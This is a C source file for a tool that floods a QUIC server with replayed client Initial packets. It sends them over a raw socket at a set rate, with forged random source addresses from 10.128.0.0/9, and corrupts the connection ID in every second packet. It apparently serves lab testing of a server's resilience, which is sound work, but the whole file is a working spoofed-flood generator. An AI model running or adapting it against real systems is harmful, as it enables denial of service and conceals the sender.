
/*
 * Sends datagrams from random source addresses, as a flood of spoofed Initials
 * does.
 *
 *     spoof ADDRESS PORT RATE SECONDS < DATAGRAMS
 *
 * Each SIZE octets of the standard input are an Initial of a client whose DCID
 * has 8 octets.  RATE of them a second leave from 10.128.0.0/9, chosen at
 * random, every second one with another DCID, which makes it garbage to a
 * server.  Needs root, and a way back that leads nowhere.  Goes on for SECONDS
 * at least, and until there is a SIGTERM, then prints the number of datagrams
 * sent.
 */


#define _GNU_SOURCE

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>


#define SIZE      1200
#define POOL      1024
#define BURST     64
#define DCID      6               /* its place in a long header */


typedef struct {
    struct iphdr   ip;
    struct udphdr  udp;
    uint8_t        data[SIZE];
} __attribute__((packed)) packet_t;


static uint64_t  state = 88172645463325252u;
static uint8_t   pool[POOL][SIZE];
static packet_t  packets[BURST];

static volatile sig_atomic_t  told;


static void
die(const char *what)
{
    perror(what);
    exit(2);
}


/* xorshift64 */

static void
tell(int signo)
{
    (void) signo;
    told = 1;
}


static uint32_t
random32(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;

    return (uint32_t) (state >> 32);
}


static double
now(void)
{
    struct timespec  ts;

    if (clock_gettime(CLOCK_MONOTONIC, &ts) == -1) {
        die("clock_gettime");
    }

    return ts.tv_sec + ts.tv_nsec / 1e9;
}


static void
make(packet_t *p, unsigned n, struct sockaddr_in *to, uint64_t number)
{
    uint32_t  garbage;

    memset(p, 0, offsetof(packet_t, data));

    /* the kernel adds the length, the identifier and the checksum */

    p->ip.version = 4;
    p->ip.ihl = 5;
    p->ip.ttl = 64;
    p->ip.protocol = IPPROTO_UDP;
    p->ip.saddr = htonl(0x0a800000 | (random32() & 0x007fffff));
    p->ip.daddr = to->sin_addr.s_addr;

    p->udp.source = htons((uint16_t) (1024 + random32() % 60000));
    p->udp.dest = to->sin_port;
    p->udp.len = htons(sizeof(struct udphdr) + SIZE);

    memcpy(p->data, pool[random32() % n], SIZE);

    if (number & 1) {
        garbage = random32();
        memcpy(&p->data[DCID], &garbage, sizeof(garbage));
    }
}


static unsigned
read_pool(void)
{
    size_t  n;

    n = fread(pool, SIZE, POOL, stdin);

    if (n == 0) {
        fprintf(stderr, "no datagrams\n");
        exit(2);
    }

    return (unsigned) n;
}


int
main(int argc, char **argv)
{
    int                 fd, i, n, count;
    double              rate, start, end, t;
    uint64_t            sent;
    unsigned            npool;
    struct iovec        iov[BURST];
    struct mmsghdr      msgs[BURST];
    struct sockaddr_in  to;

    if (argc != 5) {
        fprintf(stderr, "usage: spoof ADDRESS PORT RATE SECONDS\n");
        return 2;
    }

    memset(&to, 0, sizeof(to));
    to.sin_family = AF_INET;
    to.sin_port = htons((uint16_t) atoi(argv[2]));

    if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        die("inet_pton");
    }

    if (signal(SIGTERM, tell) == SIG_ERR) {
        die("signal");
    }

    rate = atof(argv[3]);
    npool = read_pool();

    fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd == -1) {
        die("socket");
    }

    memset(msgs, 0, sizeof(msgs));

    for (i = 0; i < BURST; i++) {
        iov[i].iov_base = &packets[i];
        iov[i].iov_len = sizeof(packet_t);
        msgs[i].msg_hdr.msg_name = &to;
        msgs[i].msg_hdr.msg_namelen = sizeof(to);
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
    }

    sent = 0;
    start = now();
    end = start + atof(argv[4]);

    for (t = start; t < end || !told; t = now()) {

        count = (int) ((t - start) * rate - (double) sent);

        if (count <= 0) {
            usleep(500);
            continue;
        }

        if (count > BURST) {
            count = BURST;
        }

        for (i = 0; i < count; i++) {
            make(&packets[i], npool, &to, sent + (uint64_t) i);
        }

        n = sendmmsg(fd, msgs, (unsigned) count, 0);

        if (n > 0) {
            sent += (uint64_t) n;

        } else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
            die("sendmmsg");
        }
    }

    printf("%llu\n", (unsigned long long) sent);

    return 0;
}
